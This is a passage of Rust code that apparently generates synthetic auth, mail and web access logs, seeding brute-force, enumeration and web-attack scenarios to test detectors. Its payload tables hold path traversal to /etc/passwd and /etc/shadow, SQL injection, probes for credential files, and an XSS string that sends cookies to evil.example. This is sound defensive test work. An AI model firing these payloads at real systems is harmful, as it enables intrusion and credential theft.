                "example.org"
            } else {
                "example.com"
            },
            ">"
        );
        self.later(t, host, m);
        t += self.g.rng.ms(5, 100);
        let from = sasl_user.unwrap_or("newsletter");
        let size = self.g.rng.range(900, 2_000_000);
        let m = bytes!(
            "postfix/qmgr[1042]: ",
            Hex(qid, 10),
            ": from=<",
            from,
            if inbound {
                "@example.org"
            } else {
                "@example.com"
            },
            ">, size=",
            size,
            ", nrcpt=1 (queue active)"
        );
        self.later(t, host, m);
        t += self.g.rng.ms(5, 100);
        let cmds = if sasl_user.is_some() {
            " ehlo=2 starttls=1 auth=1 mail=1 rcpt=1 data=1 quit=1 commands=8"
        } else {
            " ehlo=1 mail=1 rcpt=1 data=1 quit=1 commands=5"
        };
        let m = bytes!(
            "postfix/smtpd[",
            pid,
            "]: disconnect from ",
            cname,
            "[",
            caddr,
            "]",
            cmds
        );
        self.later(t, host, m);
        t += self.g.rng.ms(50, 3_000);
        let d1 = self.g.rng.below(100);
        let d4 = self.g.rng.below(300);
        let m = if inbound {
            let rcpt = *self.g.rng.pick(&MAIL_USERS);
            bytes!(
                "postfix/local[",
                cpid + 3,
                "]: ",
                Hex(qid, 10),
                ": to=<",
                rcpt,
                "@example.com>, relay=local, delay=",
                Secs(d1 + d4),
                ", delays=",
                Secs(d1),
                "/0/0/",
                Secs(d4),
                ", dsn=2.0.0, status=sent (delivered to mailbox)"
            )
        } else {
            let rcpt = self.g.rng.below(5000);
            let relay = self.g.rng.range(20, 40);
            bytes!(
                "postfix/smtp[",
                cpid + 7,
                "]: ",
                Hex(qid, 10),
                ": to=<customer",
                rcpt,
                "@example.net>, relay=mx",
                relay % 3,
                ".example.net[192.0.2.",
                relay,
                "]:25, delay=",
                Secs(d1 + d4 + 10),
                ", delays=",
                Secs(d1),
                "/0/0.1/",
                Secs(d4),
                ", dsn=2.0.0, status=sent (250 2.0.0 OK ",
                Hex(qid ^ 0x5A5A, 8),
                ")"
            )
        };
        self.later(t, host, m);
        t += self.g.rng.ms(1, 50);
        let m = bytes!("postfix/qmgr[1042]: ", Hex(qid, 10), ": removed");
        self.later(t, host, m);
        Ok(())
    }

    fn dovecot(&mut self) -> std::io::Result<()> {
        let host = MAIL_HOST;
        let user = *self.g.rng.pick(&MAIL_USERS);
        let i = self.g.rng.skewed(self.mail_clients.len() as u64);
        let addr = self.mail_clients[i].clone();
        let mpid = self.pid();
        let sess = self.g.rng.next_u64();
        let proto = if self.g.rng.chance(1, 8) {
            "pop3"
        } else {
            "imap"
        };
        self.begin(host);
        put!(
            &mut self.g.out.buf,
            "dovecot: ",
            proto,
            "-login: Login: user=<",
            user,
            ">, method=PLAIN, rip=",
            addr,
            ", lip=10.0.0.5, mpid=",
            mpid,
            ", TLS, session=<",
            B64(sess, 16),
            ">"
        );
        self.end()?;
        let dt = self.g.rng.ms(500, 1_800_000);
        let (a, b) = (self.g.rng.range(20, 900), self.g.rng.range(400, 90_000));
        let m = bytes!(
            "dovecot: ",
            proto,
            "(",
            user,
            ")<",
            mpid,
            "><",
            B64(sess, 16),
            ">: Logged out in=",
            a,
            " out=",
            b,
            " deleted=0 expunged=0 trashed=0 hdr_count=0 hdr_bytes=0 body_count=0 body_bytes=0"
        );
        self.later(dt, host, m);
        Ok(())
    }

    // --- scenarios ------------------------------------------------------------------------

    fn plan(&mut self) -> Vec<AuthScenario> {
        use AuthScenario::*;
        let reps = 1 + (self.g.target as f64 / MIB / 20.0) as usize;
        let mut v = Vec::new();
        for _ in 0..reps {
            let mut round = vec![
                BruteUsers,
                BruteRoot,
                Enumeration,
                SuccessAfterFailures,
                Forged,
                Sasl,
                Dovecot,
                NotInSudoers,
                NearMissTypo,
                NearMissRoot,
                NearMissFailures,
                NearMissEnum,
                NearMissSasl,
                NearMissDovecot,
            ];
            self.g.rng.shuffle(&mut round);
            v.extend(round);
        }
        v
    }

    fn attacker(&mut self) -> String {
        let a = auth_attacker(self.g.attackers);
        self.g.attackers += 1;
        a
    }
    fn near_miss(&mut self) -> String {
        let a = near_miss_addr(self.g.near_misses);
        self.g.near_misses += 1;
        self.g.benign.insert(a.clone());
        a
    }

    fn scenario(&mut self, s: AuthScenario) {
        use AuthScenario::*;
        match s {
            BruteUsers => {
                let a = self.attacker();
                // 4 attempts per connection: <= 5 `Invalid user` lines, half of the shipped
                // ssh.invalid-user-repeated threshold (10 in 10m).
                let n = self.g.rng.range(12, 18);
                let (n, _) = self.ssh_failures(&a, &["admin", "test", "deploy"], n, 4);
                self.g
                    .record(AUTH, "ssh.password-failure", "source.address", &a, n);
            }
            BruteRoot => {
                let a = self.attacker();
                let n = self.g.rng.range(10, 24);
                let (n, closes) = self.ssh_failures(&a, &["root"], n, 3);
                self.g
                    .record(AUTH, "ssh.password-failure", "source.address", &a, n);
                // The shipped pack also counts `Connection closed by authenticating user root`
                // as a root login attempt (key-only servers log no failure).
                self.g.record(
                    AUTH,
                    "ssh.root-login-attempt",
                    "source.address",
                    &a,
                    n + closes,
                );
            }
            SuccessAfterFailures => {
                let a = self.attacker();
                let n = self.g.rng.range(10, 18);
                let (n, _) = self.ssh_failures(&a, &["deploy"], n, 3);
                let t = self.g.rng.ms(200_000, 230_000);
                self.accepted_later(t, &a, "deploy", 1100);
                self.g
                    .record(AUTH, "ssh.password-failure", "source.address", &a, n);
                self.g
                    .record(AUTH, "ssh.success-after-failures", "source.address", &a, 1);
            }
            Enumeration => {
                let a = self.attacker();
                // Each probe also logs two pre-auth disconnect lines: 44..60 of them within
                // 5 minutes, far above the shipped ssh.preauth-disconnect-flood (20 in 5m).
                let n = self.g.rng.range(22, 30) as usize;
                let n = self.enumeration(&a, n, "");
                self.g
                    .record(AUTH, "ssh.invalid-user", "source.address", &a, n);
                self.g
                    .record(AUTH, "ssh.invalid-user-repeated", "source.address", &a, n);
                self.g.record(
                    AUTH,
                    "ssh.preauth-disconnect-flood",
                    "source.address",
                    &a,
                    2 * n,
                );
            }
            Forged => {
                let a = self.attacker();
                let tail = format!(" from {FORGED} port 22");
                let n = self.g.rng.range(20, 26) as usize;
                let n = self.enumeration(&a, n, &tail);
                self.g
                    .record(AUTH, "ssh.password-failure", "source.address", &a, n);
                self.g
                    .record(AUTH, "ssh.invalid-user", "source.address", &a, n);
                self.g
                    .record(AUTH, "ssh.invalid-user-repeated", "source.address", &a, n);
            }
            Sasl => {
                let a = self.attacker();
                let n = self.g.rng.range(10, 24);
                let n = self.sasl(&a, n);
                self.g
                    .record(AUTH, "postfix.sasl-auth-failure", "source.address", &a, n);
            }
            Dovecot => {
                let a = self.attacker();
                // The shipped dovecot detector needs 10 in 10m (one attempt may be logged 3 times).
                let n = self.g.rng.range(24, 36);
                let n = self.dovecot_failures(&a, n);
                self.g
                    .record(AUTH, "dovecot.auth-failure", "source.address", &a, n);
            }
            NotInSudoers => {
                let k = self
                    .g
                    .truth
                    .iter()
                    .filter(|t| t.detector == "sudo.not-in-sudoers")
                    .count();
                let user = if k < SUDO_INTRUDERS.len() {
                    SUDO_INTRUDERS[k].to_string()
                } else {
                    format!("contractor{k}")
                };
                let n = self.not_in_sudoers(&user);
                self.g
                    .record(AUTH, "sudo.not-in-sudoers", "user.name", &user, n);
            }
            NearMissTypo => {
                // An admin mistypes the password twice, then logs in.
                let (user, uid) = *self.g.rng.pick(&ADMINS);
                // A different workstation each time (round robin), so that no address gathers
                // more than 2 failures unless the corpus is huge (and then days apart).
                let i = self.typos % self.ssh_clients.len();
                self.typos += 1;
                let a = self.ssh_clients[i].clone();
                self.ssh_failures(&a, &[user], 2, 2);
                let t = self.g.rng.ms(40_000, 60_000);
                self.accepted_later(t, &a, user, uid);
            }
            NearMissRoot => {
                // One failure and its connection close: 2 lines for ssh.root-login-attempt.
                let a = self.near_miss();
                self.ssh_failures(&a, &["root"], 1, 1);
            }
            NearMissFailures => {
                // Two failures in one connection (plus one `Invalid user`, one close).
                let a = self.near_miss();
                self.ssh_failures(&a, &["admin"], 2, 2);
            }
            NearMissEnum => {
                let a = self.near_miss();
                self.enumeration(&a, 2, "");
            }
            NearMissSasl => {
                let a = self.near_miss();
                self.sasl(&a, 2);
            }
            NearMissDovecot => {
                // A phone with a stale password: two failures, then it is fixed.
                let i = (self.typos * 37 + 5) % self.mail_clients.len();
                self.typos += 1;
                let a = self.mail_clients[i].clone();
                self.dovecot_failures(&a, 2);
            }
        }
    }

    /// `n` `Failed password` lines from `addr`, starting now, over connections of `per_conn`
    /// attempts (the last one may have fewer), each connection ending with a `Connection closed
    /// by ... [preauth]` line; at most ~7 s per attempt. Users from `users` (`root` and the
    /// SSH_USERS are valid, others are invalid and logged with an `Invalid user` line first).
    /// Returns (failures, connection-closed lines).
    fn ssh_failures(&mut self, addr: &str, users: &[&str], n: u64, per_conn: u64) -> (u64, u64) {
        let host = *self.g.rng.pick(&["bastion", "web1", "web2"]);
        let mut t = 0;
        let mut done = 0;
        let mut closes = 0;
        while done < n {
            let pid = self.pid();
            let port = self.port();
            let user = *self.g.rng.pick(users);
            let valid = user == "root" || SSH_USERS.iter().any(|(u, _)| *u == user);
            let inv = if valid { "" } else { "invalid user " };
            let who = if valid {
                "authenticating user "
            } else {
                "invalid user "
            };
            t += self.g.rng.ms(1_000, 4_000);
            if !valid {
                let m = bytes!(
                    "sshd[",
                    pid,
                    "]: Invalid user ",
                    user,
                    " from ",
                    addr,
                    " port ",
                    port
                );
                self.later(t, host, m);
            }
            let k = per_conn.min(n - done);
            for _ in 0..k {
                t += self.g.rng.ms(1_500, 2_500);
                let m = bytes!(
                    "sshd[",
                    pid,
                    "]: Failed password for ",
                    inv,
                    user,
                    " from ",
                    addr,
                    " port ",
                    port,
                    " ssh2"
                );
                self.later(t, host, m);
            }
            done += k;
            t += self.g.rng.ms(100, 900);
            let m = bytes!(
                "sshd[",
                pid,
                "]: Connection closed by ",
                who,
                user,
                " ",
                addr,
                " port ",
                port,
                " [preauth]"
            );
            self.later(t, host, m);
            closes += 1;
        }
        (n, closes)
    }

    /// Successful password login (and session) from `addr` at now + t.
    fn accepted_later(&mut self, t: i64, addr: &str, user: &str, uid: u32) {
        let host = "bastion";
        let pid = self.pid();
        let port = self.port();
        let lpid = self.logind_pid[0];
        self.logind_session += 1;
        let sid = self.logind_session;
        let m = bytes!(
            "sshd[",
            pid,
            "]: Accepted password for ",
            user,
            " from ",
            addr,
            " port ",
            port,
            " ssh2"
        );
        self.later(t, host, m);
        let m = bytes!(
            "sshd[",
            pid,
            "]: pam_unix(sshd:session): session opened for user ",
            user,
            "(uid=",
            uid,
            ") by (uid=0)"
        );
        self.later(t, host, m);
        let m = bytes!(
            "systemd-logind[",
            lpid,
            "]: New session ",
            sid,
            " of user ",
            user,
            "."
        );
        self.later(t + 20, host, m);
        let d = t + self.g.rng.ms(60_000, 600_000);
        let m = bytes!(
            "sshd[",
            pid,
            "]: pam_unix(sshd:session): session closed for user ",
            user
        );
        self.later(d, host, m);
        let m = bytes!("systemd-logind[", lpid, "]: Removed session ", sid, ".");
        self.later(d + 10, host, m);
    }

    /// `n` distinct invalid user names from `addr`. With a non-empty `tail` (a forging attempt),
    /// each user name is followed by `tail` and each attempt also fails a password.
    fn enumeration(&mut self, addr: &str, n: usize, tail: &str) -> u64 {
        let host = *self.g.rng.pick(&["bastion", "web1", "web2"]);
        let mut names: Vec<&str> = ENUM_NAMES.to_vec();
        self.g.rng.shuffle(&mut names);
        let mut t = 0;
        for name in names.iter().take(n) {
            let pid = self.pid();
            let port = self.port();
            t += self.g.rng.ms(2_000, 6_000);
            let m = bytes!(
                "sshd[",
                pid,
                "]: Invalid user ",
                name,
                tail,
                " from ",
                addr,
                " port ",
                port
            );
            self.later(t, host, m);
            if !tail.is_empty() {
                // Forging attempt: one failed password per name, no pre-auth disconnect lines.
                t += self.g.rng.ms(1_500, 2_500);
                let m = bytes!(
                    "sshd[",
                    pid,
                    "]: Failed password for invalid user ",
                    name,
                    tail,
                    " from ",
                    addr,
                    " port ",
                    port,
                    " ssh2"
                );
                self.later(t, host, m);
                continue;
            }
            t += self.g.rng.ms(200, 900);
            let m = bytes!(
                "sshd[",
                pid,
                "]: Received disconnect from ",
                addr,
                " port ",
                port,
                ":11: Bye Bye [preauth]"
            );
            self.later(t, host, m);
            let m = bytes!(
                "sshd[",
                pid,
                "]: Disconnected from invalid user ",
                name,
                " ",
                addr,
                " port ",
                port,
                " [preauth]"
            );
            self.later(t, host, m);
        }
        n as u64
    }

    fn sasl(&mut self, addr: &str, n: u64) -> u64 {
        let host = MAIL_HOST;
        let mut t = 0;
        for _ in 0..n {
            let pid = self.pid();
            t += self.g.rng.ms(2_000, 9_000);
            let m = bytes!("postfix/smtpd[", pid, "]: connect from unknown[", addr, "]");
            self.later(t, host, m);
            t += self.g.rng.ms(300, 2_500);
            let m = if self.g.rng.chance(3, 4) {
                bytes!(
                    "postfix/smtpd[",
                    pid,
                    "]: warning: unknown[",
                    addr,
                    "]: SASL LOGIN authentication failed: UGFzc3dvcmQ6"
                )
            } else {
                bytes!(
                    "postfix/smtpd[",
                    pid,
                    "]: warning: unknown[",
                    addr,
                    "]: SASL PLAIN authentication failed: authentication failure"
                )
            };
            self.later(t, host, m);
            t += self.g.rng.ms(10, 200);
            let m = bytes!(
                "postfix/smtpd[",
                pid,
                "]: lost connection after AUTH from unknown[",
                addr,
                "]"
            );
            self.later(t, host, m);
            let m = bytes!(
                "postfix/smtpd[",
                pid,
                "]: disconnect from unknown[",
                addr,
                "] ehlo=1 auth=0/1 commands=1/2"
            );
            self.later(t, host, m);
        }
        n
    }

    fn dovecot_failures(&mut self, addr: &str, n: u64) -> u64 {
        let host = MAIL_HOST;
        let mut t = 0;
        for _ in 0..n {
            t += self.g.rng.ms(2_000, 7_000);
            let user = *self.g.rng.pick(&DOVECOT_TARGETS);
            let proto = if self.g.rng.chance(1, 4) {
                "pop3"
            } else {
                "imap"
            };
            let secs = self.g.rng.range(2, 6);
            let sess = self.g.rng.next_u64();
            let m = bytes!(
                "dovecot: ",
                proto,
                "-login: Disconnected (auth failed, 1 attempts in ",
                secs,
                " secs): user=<",
                user,
                ">, method=PLAIN, rip=",
                addr,
                ", lip=10.0.0.5, TLS, session=<",
                B64(sess, 16),
                ">"
            );
            self.later(t, host, m);
        }
        n
    }

    fn not_in_sudoers(&mut self, user: &str) -> u64 {
        let host = *self.g.rng.pick(&["web1", "web2", "db1"]);
        let n = self.g.rng.range(2, 4);
        let cmds = [
            "/bin/bash",
            "/usr/bin/cat /etc/shadow",
            "/usr/bin/su -",
            "/bin/sh",
        ];
        let tty = self.g.rng.range(1, 5);
        let mut t = 0;
        for i in 0..n {
            t += self.g.rng.ms(5_000, 40_000);
            let m = bytes!(
                "sudo: ",
                Right(user, 8),
                " : user NOT in sudoers ; TTY=pts/",
                tty,
                " ; PWD=/home/",
                user,
                " ; USER=root ; COMMAND=",
                cmds[i as usize % cmds.len()]
            );
            self.later(t, host, m);
        }
        n
    }
}

#[derive(Clone, Copy, Debug)]
enum AuthScenario {
    BruteUsers,
    BruteRoot,
    Enumeration,
    SuccessAfterFailures,
    Forged,
    Sasl,
    Dovecot,
    NotInSudoers,
    NearMissTypo,
    NearMissRoot,
    NearMissFailures,
    NearMissEnum,
    NearMissSasl,
    NearMissDovecot,
}

// ---------------------------------------------------------------------------------------------
// access.log

const BROWSERS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.105 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.66",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36",
];
const BOTS: [&str; 3] = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)",
];
const SEARCH_WORDS: [&str; 16] = [
    "shoes",
    "laptop",
    "coffee",
    "garden",
    "lamp",
    "red",
    "dress",
    "union",
    "square",
    "desk",
    "chair",
    "headphones",
    "kettle",
    "script",
    "env",
    "backpack",
];
const BLOG_SLUGS: [&str; 10] = [
    "how-to-select-a-laptop",
    "spring-collection-2026",
    "coffee-brewing-guide",
    "our-new-warehouse",
    "env-friendly-packaging",
    "union-square-store-opening",
    "choosing-an-office-chair",
    "shipping-updates",
    "gift-ideas",
    "behind-the-scenes",
];
const ASSETS: [&str; 8] = [
    "/static/css/main.4f9c2a1e.css",
    "/static/js/app.7d3b9e02.js",
    "/static/js/vendor.1a2b3c4d.js",
    "/static/js/script.min.js",
    "/static/fonts/inter-var.woff2",
    "/images/logo.svg",
    "/favicon.ico",
    "/images/hero-2026.webp",
];

const TRAVERSAL: [&str; 8] = [
    "/../../etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/static/../../../../etc/passwd",
    "/download?file=../../../../etc/shadow",
    "/index.php?page=../../../../../../etc/passwd",
    "/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/images/..%2f..%2f..%2f..%2fetc/hosts",
    "/assets/..%2f..%2f..%2fwindows/win.ini",
];
const SQLI: [&str; 8] = [
    "/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
    "/item?id=1%27%20UNION%20SELECT%20NULL,NULL,NULL--%20-",
    "/products?id=1%20UNION%20ALL%20SELECT%20table_name,2%20FROM%20information_schema.tables--",
    "/item?id=1%27%20OR%20%271%27=%271",
    "/item?id=1%27%20AND%20SLEEP(5)--%20-",
    "/search?q=%27%20OR%201=1--",
    "/news?id=-1+UNION+SELECT+1,2,3,4--",
    "/item?id=1%27%20UNION%20SELECT%20@@version,2--%20-",
];
const XSS: [&str; 6] = [
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/comment?text=%3Csvg/onload=alert(document.domain)%3E",
    "/search?q=%22%3E%3Cscript%3Edocument.location=%22http://evil.example/?c=%22%2Bdocument.cookie%3C/script%3E",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E&from=192.0.2.1",
    "/profile?name=%3Cbody%20onload=alert(document.cookie)%3E",
];
const SENSITIVE: [&str; 8] = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.aws/credentials",
    "/.htpasswd",
    "/.ssh/id_rsa",
    "/wp-config.php.bak",
    "/.svn/entries",
];
const NIKTO_PATHS: [&str; 8] = [
    "/",
    "/index.html",
    "/robots.txt",
    "/favicon.ico",
    "/cgi-bin/",
    "/images/",
    "/docs/",
    "/help.html",
];

fn access_attacker(k: u64) -> String {
    doc_addr("203.0.113.", 128, 126, "2001:db8:c::", k)
}

#[derive(Clone, Copy, Debug)]
enum AccessScenario {
    Traversal,
    Sqli,
    Sqlmap,
    Xss,
    Nikto,
    Sensitive,
    AuthFlood,
    NearMiss401,
}

struct Access {
    g: Gen,
    /// (address, user agent index) of benign clients.
    clients: Vec<(String, usize)>,
}

const ACCESS: &str = "access.log";

impl Access {
    fn new(g: Gen) -> Access {
        let mut g = g;
        let clients: Vec<(String, usize)> = (0..3000u64)
            .map(|i| {
                let a = match i % 10 {
                    0..=5 => format!(
                        "100.{}.{}.{}",
                        64 + i % 64,
                        (i * 97) % 256,
                        1 + (i * 13) % 254
                    ),
                    6 => format!("192.0.2.{}", 2 + i % 250),
                    7 => format!(
                        "172.{}.{}.{}",
                        16 + i % 16,
                        (i * 7) % 256,
                        1 + (i * 3) % 254
                    ),
                    _ => format!(
                        "fd{:02x}:{:x}:{:x}::{:x}",
                        i % 256,
                        0x1000 + i,
                        i * 7,
                        1 + i
                    ),
                };
                (
                    a,
                    (i as usize * 7 + i as usize / 3) % (BROWSERS.len() + BOTS.len()),
                )
            })
            .collect();
        for (a, _) in &clients {
            g.benign.insert(a.clone());
        }
        g.benign.insert("10.0.0.2".into());
        Access { g, clients }
    }

    fn ua(i: usize) -> &'static str {
        if i < BROWSERS.len() {
            BROWSERS[i]
        } else {
            BOTS[i - BROWSERS.len()]
        }
    }

    fn write_deferred(&mut self, d: Deferred) -> std::io::Result<()> {
        self.g.now = d.t;
        self.g.clock.set(d.t);
        let buf = &mut self.g.out.buf;
        buf.extend_from_slice(&d.a);
        buf.extend_from_slice(b" - - [");
        buf.extend_from_slice(&self.g.clock.nginx);
        buf.extend_from_slice(b"] ");
        buf.extend_from_slice(&d.b);
        self.g.out.end_line()
    }

    /// Writes a request line at `now`.
    #[allow(clippy::too_many_arguments)]
    fn request(
        &mut self,
        addr: &str,
        method: &str,
        path: &[u8],
        status: u64,
        size: u64,
        referer: &str,
        ua: &str,
    ) -> std::io::Result<()> {
        self.g.clock.set(self.g.now);
        let buf = &mut self.g.out.buf;
        put!(
            buf,
            addr,
            " - - [",
            &self.g.clock.nginx,
            "] \"",
            method,
            " ",
            path,
            " HTTP/1.1\" ",
            status,
            " ",
            size,
            " \"",
            referer,
            "\" \"",
            ua,
            "\""
        );
        self.g.out.end_line()
    }

    #[allow(clippy::too_many_arguments)]
    fn request_at(
        &mut self,
        t: i64,
        addr: &str,
        method: &str,
        path: &str,
        status: u64,
        size: u64,
        referer: &str,
        ua: &str,
    ) {
        let b = bytes!(
            "\"",
            method,
            " ",
            path,
            " HTTP/1.1\" ",
            status,
            " ",
            size,
            " \"",
            referer,
            "\" \"",
            ua,
            "\""
        );
        self.g.queue.at(self.g.now + t, addr.as_bytes(), b);
    }

    fn run(mut self) -> std::io::Result<Gen> {
        let scenarios = self.plan();
        let n = scenarios.len() as u64;
        let mut next = 0usize;
        let mut path = Vec::with_capacity(256);
        loop {
            while next < scenarios.len()
                && self.g.out.len() >= self.g.target * (next as u64 + 1) / (n + 1)
            {
                self.scenario(scenarios[next]);
                next += 1;
            }
            if self.g.out.len() >= self.g.target && next == scenarios.len() {
                break;
            }
            let t = self.g.next_event_time();
            while let Some(d) = self.g.queue.next_before(t) {
                self.write_deferred(d)?;
            }
            self.g.now = t;
            self.g.events += 1;
            self.benign(&mut path)?;
        }
        while let Some(d) = self.g.queue.heap.pop() {
            self.write_deferred(d)?;
        }
        self.g.out.finish()?;
        Ok(self.g)
    }

    fn benign(&mut self, path: &mut Vec<u8>) -> std::io::Result<()> {
        if self.g.rng.chance(1, 25) {
            // Load balancer health check.
            let size = 2;
            return self.request(
                "10.0.0.2",
                "GET",
                b"/healthz",
                200,
                size,
                "-",
                "ELB-HealthChecker/2.0",
            );
        }
        let ci = self.g.rng.skewed(self.clients.len() as u64);
        let (addr, uai) = self.clients[ci].clone();
        let ua = Self::ua(uai);
        let bot = uai >= BROWSERS.len();
        path.clear();
        let mut method = "GET";
        let mut status = 200;
        let mut size = self.g.rng.range(2_000, 60_000);
        let mut page = true;
        if bot {
            match self.g.rng.below(4) {
                0 => put!(path, "/robots.txt"),
                1 => put!(path, "/sitemap.xml"),
                _ => {
                    let id = self.g.rng.range(1, 5000);
                    put!(path, "/products/", id);
                }
            }
            page = false;
        } else {
            match self.g.rng.weighted(&[10, 30, 10, 12, 12, 4, 3, 3, 4]) {
                0 => put!(path, "/"),
                1 => {
                    let id = self.g.rng.range(1, 5000);
                    put!(path, "/products/", id);
                    if self.g.rng.chance(1, 50) {
                        status = 404;
                        size = 153;
                        page = false;
                    }
                }
                2 => {
                    let slug = *self.g.rng.pick(&BLOG_SLUGS);
                    put!(path, "/blog/", slug);
                }
                3 => {
                    let w1 = *self.g.rng.pick(&SEARCH_WORDS);
                    let w2 = *self.g.rng.pick(&SEARCH_WORDS);
                    let p = self.g.rng.range(1, 5);
                    put!(path, "/search?q=", w1, "+", w2, "&page=", p);
                }
                4 => {
                    let p = self.g.rng.range(1, 40);
                    put!(path, "/api/v1/items?page=", p, "&limit=20");
                    size = self.g.rng.range(300, 9_000);
                    page = false;
                }
                5 => {
                    method = "POST";
                    put!(path, "/api/v1/cart");
                    status = 201;
                    size = self.g.rng.range(40, 400);
                    page = false;
                }
                6 => {
                    if self.g.rng.chance(1, 2) {
                        put!(path, "/login");
                    } else {
                        method = "POST";
                        put!(path, "/login");
                        status = 302;
                        size = 0;
                        page = false;
                    }
                }
                7 => {
                    put!(path, "/apple-touch-icon.png");
                    status = 404;
                    size = 153;
                    page = false;
                }
                _ => {
                    put!(path, "/docs/env-setup");
                }
            }
        }
        let referer = if page && self.g.rng.chance(1, 3) {
            "https://www.google.com/"
        } else if self.g.rng.chance(1, 2) {
            "https://www.example.com/"
        } else {
            "-"
        };
        let p = std::mem::take(path);
        self.request(&addr, method, &p, status, size, referer, ua)?;
        *path = p;
        if page {
            let n = self.g.rng.below(5);
            let mut t = 0;
            for _ in 0..n {
                t += self.g.rng.ms(20, 400);
                let asset = *self.g.rng.pick(&ASSETS);
                let (st, sz) = if self.g.rng.chance(1, 3) {
                    (304, 0)
                } else {
                    (200, self.g.rng.range(500, 250_000))
                };
                self.request_at(
                    t,
                    &addr,
                    "GET",
                    asset,
                    st,
                    sz,
                    "https://www.example.com/",
                    ua,
                );
            }
        }
        Ok(())
    }

    fn plan(&mut self) -> Vec<AccessScenario> {
        use AccessScenario::*;
        let reps = 1 + (self.g.target as f64 / MIB / 20.0) as usize;
        let mut v = Vec::new();
        for _ in 0..reps {
            let mut round = vec![
                Traversal,
                Sqli,
                Sqlmap,
                Xss,
                Nikto,
                Sensitive,
                AuthFlood,
                NearMiss401,
            ];
            self.g.rng.shuffle(&mut round);
            v.extend(round);
        }
        v
    }

    fn attacker(&mut self) -> String {
        let a = access_attacker(self.g.attackers);
        self.g.attackers += 1;
        a
    }

    /// `n` requests from `addr`, `gap` ms apart on average; `f` picks (method, path, status).
    fn burst(
        &mut self,
        addr: &str,
        n: u64,
        gap: (i64, i64),
        ua: &str,
        mut f: impl FnMut(&mut Rng, u64) -> (&'static str, String, u64),
    ) -> u64 {
        let mut t = 0;
        for i in 0..n {
            t += self.g.rng.ms(gap.0, gap.1);
            let (method, path, status) = f(&mut self.g.rng, i);
            let size = if status == 200 {
                self.g.rng.range(1_000, 20_000)
            } else {
                self.g.rng.range(150, 600)
            };
            self.request_at(t, addr, method, &path, status, size, "-", ua);
        }
        n
    }

    fn scenario(&mut self, s: AccessScenario) {
        use AccessScenario::*;
        let browser = BROWSERS[self.g.rng.below(BROWSERS.len() as u64) as usize];
        match s {
            Traversal => {
                let a = self.attacker();
                let n = self.g.rng.range(10, 24);
                let n = self.burst(&a, n, (1_000, 8_000), browser, |r, i| {
                    let st = if r.chance(1, 2) { 400 } else { 404 };
                    (
                        "GET",
                        TRAVERSAL[i as usize % TRAVERSAL.len()].to_string(),
                        st,
                    )
                });
                self.g
                    .record(ACCESS, "http.path-traversal", "source.address", &a, n);
            }
            Sqli => {
                let a = self.attacker();
                let n = self.g.rng.range(10, 24);
                let n = self.burst(&a, n, (1_000, 8_000), browser, |r, i| {
                    let st = if r.chance(1, 3) { 500 } else { 200 };
                    ("GET", SQLI[i as usize % SQLI.len()].to_string(), st)
                });
                self.g.record(ACCESS, "http.sqli", "source.address", &a, n);
            }
            Sqlmap => {
                let a = self.attacker();
                let n = self.g.rng.range(12, 30);
                let ua = "sqlmap/1.8.2#stable (https://sqlmap.org)";
                let n = self.burst(&a, n, (300, 3_000), ua, |r, i| {
                    let st = if r.chance(1, 3) { 500 } else { 200 };
                    ("GET", SQLI[(i as usize + 3) % SQLI.len()].to_string(), st)
                });
                self.g.record(ACCESS, "http.sqli", "source.address", &a, n);
                self.g
                    .record(ACCESS, "http.scanner-user-agent", "source.address", &a, n);
            }
            Xss => {
                let a = self.attacker();
                let n = self.g.rng.range(10, 20);
                let n = self.burst(&a, n, (1_000, 8_000), browser, |_, i| {
                    ("GET", XSS[i as usize % XSS.len()].to_string(), 200)
                });
                self.g.record(ACCESS, "http.xss", "source.address", &a, n);
            }
            Nikto => {
                let a = self.attacker();
                let n = self.g.rng.range(12, 30);
                let mut ua_n = 0u64;
                let mut t = 0;
                for i in 0..n {
                    t += self.g.rng.ms(100, 2_000);
                    ua_n += 1;
                    let ua = format!(
                        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{:06})",
                        ua_n
                    );
                    let path = NIKTO_PATHS[i as usize % NIKTO_PATHS.len()];
                    let st = if i % NIKTO_PATHS.len() as u64 <= 3 {
                        200
                    } else {
                        404
                    };
                    self.request_at(t, &a, "GET", path, st, 512, "-", &ua);
                }
                self.g
                    .record(ACCESS, "http.scanner-user-agent", "source.address", &a, n);
            }
            Sensitive => {
                let a = self.attacker();
                let n = self.g.rng.range(10, 24);
                let n = self.burst(&a, n, (500, 6_000), browser, |_, i| {
                    (
                        "GET",
                        SENSITIVE[i as usize % SENSITIVE.len()].to_string(),
                        404,
                    )
                });
                self.g
